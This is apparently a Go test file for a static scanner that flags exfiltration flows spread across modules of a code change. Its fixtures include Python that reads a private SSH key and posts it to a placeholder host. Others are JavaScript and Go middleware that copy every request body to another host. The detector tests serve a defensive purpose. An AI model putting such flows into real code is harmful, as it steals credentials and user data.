package static_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

func TestAFindingOverTwoModulesStandsOnTheChangedLineAndNamesBoth(t *testing.T) {
	post := "import requests\nfrom conf import value\n\nrequests.post('https://api.example.com/in', data=value())\n"
	key := "def value():\n    return open('/home/me/.ssh/id_rsa').read()\n"
	for name, tc := range map[string]struct {
		base, edit      fstest.MapFS
		at, other, says string
		line            int
	}{
		"the change adds what is read": {
			fstest.MapFS{"use.py": file(post), "conf.py": file("def value():\n    return 1\n")}, fstest.MapFS{"conf.py": file(key)},
			"conf.py", "use.py", "in use.py on line 4, by way of this line", 2,
		},
		"the change adds where it goes": {
			fstest.MapFS{"use.py": file("import requests\n"), "conf.py": file(key)}, fstest.MapFS{"use.py": file(post)},
			"use.py", "conf.py", "together with conf.py", 4,
		},
	} {
		t.Run(name, func(t *testing.T) {
			var got *gate.Finding
			for _, f := range scanEdit(t, tc.base, tc.edit).found[tc.at] {
				if f.Rule == "exfiltration/python-key-file-flow" {
					got = &f
				}
			}
			if got == nil || got.Line != tc.line || !got.InChange || !strings.Contains(got.Message, tc.says) {
				t.Fatalf("got %+v", got)
			}
			own, others := 0, 0
			for _, s := range got.Flow {
				switch s.Path {
				case "":
					own++
				case tc.other:
					others++
				}
			}
			if own == 0 || others == 0 {
				t.Errorf("the flow names one file only: %+v", got.Flow)
			}
		})
	}
}

func TestFlowsAcrossModulesOfTheBaseAreNotNew(t *testing.T) {
	post := "import requests\nfrom conf import value\n\nrequests.post('https://api.example.com/in', data=value())\n"
	key := "def value():\n    return open('/home/me/.ssh/id_rsa').read()\n"
	base := fstest.MapFS{"use.py": file(post), "conf.py": file(key)}
	for name, edit := range map[string]fstest.MapFS{
		"a line beside the use":   {"use.py": file(post + "print(len(value.__name__))\n")},
		"a line beside the value": {"conf.py": file("LIMIT = 3\n\n\n" + key)},
	} {
		for _, found := range scanEdit(t, base, edit).found {
			for _, f := range found {
				if f.Decides() && f.Severity >= gate.SeveritySuspicious {
					t.Errorf("%s: %+v", name, f)
				}
			}
		}
	}
}

// A module that was not read is not left out without a word.
func TestModulesBeyondTheBoundAreANoteAndAGapUnderTheStrictProfile(t *testing.T) {
	base := fstest.MapFS{"big.py": file("def value():\n    return 1\n\nx = '" + strings.Repeat("y", 5<<20) + "'\n")}
	edit := fstest.MapFS{"use.py": file("import requests\nfrom big import value\n\nrequests.post('https://api.example.com/in', data=value())\n")}
	const said = "what it does with other modules was not followed"
	o := scanEdit(t, base, edit)
	if !slices.ContainsFunc(o.found["use.py"], func(f gate.Finding) bool {
		return f.Rule == "file/unfollowed-modules" && f.Severity == gate.SeverityNote && strings.Contains(f.Message, said)
	}) || len(o.gaps) > 0 {
		t.Errorf("by default: %v, gaps %v", o.found["use.py"], o.gaps)
	}
	o = scanEditAs(t, gate.ProfileStrict, base, edit)
	if !slices.ContainsFunc(o.gaps, func(g string) bool { return strings.HasPrefix(g, "use.py: "+said) }) {
		t.Errorf("strict: gaps %v", o.gaps)
	}
}

// The address of a request and what is sent there are two flows: either may come from elsewhere.
func TestAnAddressThatOneModuleGivesAndAnotherSendsToIsANewHost(t *testing.T) {
	for name, edit := range map[string]fstest.MapFS{
		"JavaScript": {
			"server.js": file("const { shadow } = require('./shadow');\nmodule.exports = shadow('https://copies.example.org/in');\n"),
			"shadow.js": file("function send(to, body) {\n  return fetch(to, { method: 'POST', body });\n}\nfunction shadow(to) {\n  return (req, res, next) => {\n    send(to, req.body);\n    next();\n  };\n}\nmodule.exports = { shadow };\n"),
		},
		"Go": {
			"server.go": file("package app\n\nimport \"example.com/app/shadow\"\n\nvar Handler = shadow.New(\"https://copies.example.org/in\")\n"),
			"shadow/shadow.go": file("package shadow\n\nimport \"net/http\"\n\nfunc New(to string) http.HandlerFunc {\n\treturn func(w http.ResponseWriter, r *http.Request) {\n\t\tsend(to, r)\n\t}\n}\n\n" +
				"func send(to string, r *http.Request) {\n\tres, err := http.Post(to, \"text/plain\", r.Body)\n\tif err == nil {\n\t\tres.Body.Close()\n\t}\n}\n"),
		},
	} {
		base := fstest.MapFS{"go.mod": file("module example.com/app\n"), "README.md": file("app\n")}
		var rules []string
		for _, found := range scanEdit(t, base, edit).found {
			for _, f := range found {
				rules = append(rules, f.Rule)
			}
		}
		if !slices.ContainsFunc(rules, func(r string) bool { return strings.Contains(r, "new-host") }) {
			t.Errorf("%s: %v", name, rules)
		}
	}
}
